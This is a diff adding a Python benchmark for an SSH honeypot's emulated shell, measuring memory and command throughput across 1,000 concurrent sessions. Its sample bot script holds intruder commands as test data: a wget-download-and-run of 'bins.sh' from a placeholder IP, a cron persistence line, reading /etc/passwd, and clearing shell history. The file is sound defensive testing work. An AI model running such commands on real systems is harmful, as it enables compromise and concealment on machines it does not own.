@@ -0,0 +1,202 @@
+"""Memory per session and commands/sec of the emulated shell with 1k concurrent sessions.
+
+Two measurements:
+  * shell layer: N ShellSession objects alive at once, each fed a typical bot
+    script; reports tracemalloc bytes per session and interpreted commands/sec,
+    once with the shared filesystem tree and once with a private copy per
+    session for comparison
+  * end to end: a HoneypotServer in shell mode in a child process (database
+    logging disabled), N scripted SSH clients log in and wait at the prompt;
+    reports the server's RSS per session while all N are open, then releases
+    them together and reports commands/sec until every session has exited
+
+Usage:
+    python benchmarks/bench_shell_sessions.py --sessions 1000 --modes asyncio thread
+"""
+import argparse
+import asyncio
+import multiprocessing
+import os
+import sys
+import tempfile
+import threading
+import time
+import tracemalloc
+
+sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
+
+from fake_shell import FakeFilesystem, ShellSession, FILESYSTEM, FILESYSTEM_TREE
+from ssh_client import ScriptedSSHClient
+from bench_connections import raise_fd_limit, free_port, read_rss_kb
+
+BOT_SCRIPT = [
+    'uname -a',
+    'cat /proc/cpuinfo | grep name | wc -l',
+    'free -m',
+    'ls -la /tmp',
+    'cd /tmp; wget http://203.0.113.7/bins.sh; chmod 777 bins.sh; sh bins.sh',
+    'echo "* * * * * /tmp/.x" > /tmp/.cron',
+    'cat /etc/passwd | head -n 3',
+    '/bin/busybox WXYZ',
+    'history -c',
+]
+
+
+def open_shells(sessions, shared):
+    shells = []
+    for _ in range(sessions):
+        filesystem = FILESYSTEM if shared else FakeFilesystem(FILESYSTEM_TREE)
+        shell = ShellSession('root', True, filesystem=filesystem, command_rate=1e9)
+        shell.start()
+        shells.append(shell)
+    return shells
+
+
+def run_script(shells):
+    """Type the bot script into every shell, interleaving sessions command by command"""
+    for command in BOT_SCRIPT:
+        keystrokes = command.encode() + b'\r'
+        for shell in shells:
+            shell.feed(keystrokes)
+    return len(BOT_SCRIPT) * len(shells)
+
+
+def bench_shell_layer(sessions, shared):
+    # Memory pass (traced), then a separate untraced pass for speed
+    tracemalloc.start()
+    shells = open_shells(sessions, shared)
+    opened = tracemalloc.get_traced_memory()[0]
+    run_script(shells)
+    after = tracemalloc.get_traced_memory()[0]
+    tracemalloc.stop()
+    del shells
+
+    shells = open_shells(sessions, shared)
+    start = time.perf_counter()
+    commands = run_script(shells)
+    elapsed = time.perf_counter() - start
+    return {
+        'bytes_per_session_open': opened / sessions,
+        'bytes_per_session_after': after / sessions,
+        'commands_per_sec': commands / elapsed,
+    }
+
+
+def run_server(mode, port, sessions):
+    """Child process entry point"""
+    raise_fd_limit()
+    os.environ.setdefault('DATABASE_URL', f"sqlite:///{tempfile.mkdtemp()}/bench.db")
+    import logging
+    logging.disable(logging.CRITICAL)
+
+    from honeypot import HoneypotServer, SSHHoneypot
+
+    threading.stack_size(256 * 1024)
+    SSHHoneypot.log_attack_attempt = lambda self: None
+    SSHHoneypot.HANDSHAKE_DELAY = SSHHoneypot.AUTH_DELAY = 0
+
+    server = HoneypotServer(host='127.0.0.1', port=port, mode=mode, backlog=4096,
+                            max_sessions=sessions * 2, session_timeout=600,
+                            shell=True, shell_idle_timeout=600)
+    server.start()
+
+
+async def shell_client(port, at_prompt, release, results):
+    """One attacker: log in, wait at the prompt for the release, run the bot script, exit"""
+    try:
+        reader, writer = await asyncio.open_connection('127.0.0.1', port)
+        client = ScriptedSSHClient(passwords=['admin'], ciphers=['aes128-ctr'], commands=BOT_SCRIPT, paused=True)
+        writer.write(client.start())
+        released = False
+        while not client.closed:
+            if client.at_prompt and client.paused and not released:
+                at_prompt()
+                await release.wait()
+                released = True
+                writer.write(client.resume())
+            data = await reader.read(65536)
+            if not data:
+                break
+            output = client.receive(data)
+            if output:
+                writer.write(output)
+                await writer.drain()
+        writer.close()
+        results['ok' if client.closed and not client.commands else 'failed'] += 1
+    except Exception:
+        results['failed'] += 1
+
+
+async def run_clients(port, sessions, proc):
+    results = {'ok': 0, 'failed': 0}
+    release = asyncio.Event()
+    waiting = [0]
+
+    def at_prompt():
+        waiting[0] += 1
+
+    tasks = [asyncio.create_task(shell_client(port, at_prompt, release, results)) for _ in range(sessions)]
+    login_start = time.perf_counter()
+    while waiting[0] + results['failed'] < sessions:
+        await asyncio.sleep(0.2)
+    login_elapsed = time.perf_counter() - login_start
+    await asyncio.sleep(1)
+    open_rss = read_rss_kb(proc.pid)
+
+    start = time.perf_counter()
+    release.set()
+    await asyncio.gather(*tasks)
+    elapsed = time.perf_counter() - start
+    return results, waiting[0], login_elapsed, open_rss, elapsed
+
+
+def bench_end_to_end(mode, sessions):
+    port = free_port()
+    proc = multiprocessing.Process(target=run_server, args=(mode, port, sessions), daemon=True)
+    proc.start()
+    time.sleep(2)
+    baseline_rss = read_rss_kb(proc.pid)
+
+    results, logged_in, login_elapsed, open_rss, elapsed = asyncio.run(run_clients(port, sessions, proc))
+    proc.terminate()
+    proc.join()
+
+    commands = results['ok'] * (len(BOT_SCRIPT) + 1)  # the script plus exit
+    return {
+        'mode': mode,
+        'logged_in': logged_in,
+        'ok': results['ok'],
+        'failed': results['failed'],
+        'login_secs': login_elapsed,
+        'kb_per_session': (open_rss - baseline_rss) / max(logged_in, 1),
+        'commands_per_sec': commands / elapsed if elapsed else 0,
+    }
+
+
+def main():
+    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
+    parser.add_argument('--sessions', type=int, default=1000)
+    parser.add_argument('--modes', nargs='+', default=['asyncio', 'thread'])
+    parser.add_argument('--skip-end-to-end', action='store_true')
+    args = parser.parse_args()
+
+    print(f"shell layer, {args.sessions} concurrent sessions, {len(BOT_SCRIPT)} commands each")
+    print(f"{'filesystem':<12} {'B/session open':>15} {'B/session after':>16} {'commands/s':>12}")
+    for shared in (True, False):
+        r = bench_shell_layer(args.sessions, shared)
+        print(f"{'shared' if shared else 'per-session':<12} {r['bytes_per_session_open']:>15,.0f} "
+              f"{r['bytes_per_session_after']:>16,.0f} {r['commands_per_sec']:>12,.0f}")
+
+    if args.skip_end_to_end:
+        return
+    raise_fd_limit()
+    print(f"\nend to end over SSH (aes128-ctr), {args.sessions} concurrent sessions")
+    print(f"{'mode':<8} {'logged in':>10} {'ok':>6} {'failed':>7} {'login s':>8} {'KB/session':>11} {'commands/s':>11}")
+    for mode in args.modes:
+        r = bench_end_to_end(mode, args.sessions)
+        print(f"{r['mode']:<8} {r['logged_in']:>10} {r['ok']:>6} {r['failed']:>7} {r['login_secs']:>8.1f} "
+              f"{r['kb_per_session']:>11.1f} {r['commands_per_sec']:>11.1f}")
+
+
+if __name__ == '__main__':
+    main()